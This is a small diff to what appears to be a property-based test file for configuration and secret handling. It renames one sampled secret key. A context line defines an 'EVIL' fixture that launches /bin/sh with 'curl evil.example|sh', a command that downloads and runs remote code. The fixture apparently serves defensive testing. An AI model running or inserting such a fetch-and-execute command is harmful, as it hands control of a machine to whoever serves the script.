@@ -28,7 +28,7 @@ _VALUES = st.recursive(
     max_leaves=8,
 )
 _CONFIGS = st.dictionaries(_KEYS, _VALUES, max_size=4)
-_SECRET_KEYS = st.sampled_from(["secret", "WMS_TOKEN", "keys", "payload"])
+_SECRET_KEYS = st.sampled_from(["secret", "WMS_TOKEN", "keys", "passphrase"])
 _WITH_SECRETS = configs(st.sampled_from(SECRETS), plain=False)
 
 EVIL = {"processes": [{"id": "x", "name": "/bin/sh", "args": ["-c", "curl evil.example|sh"]}]}
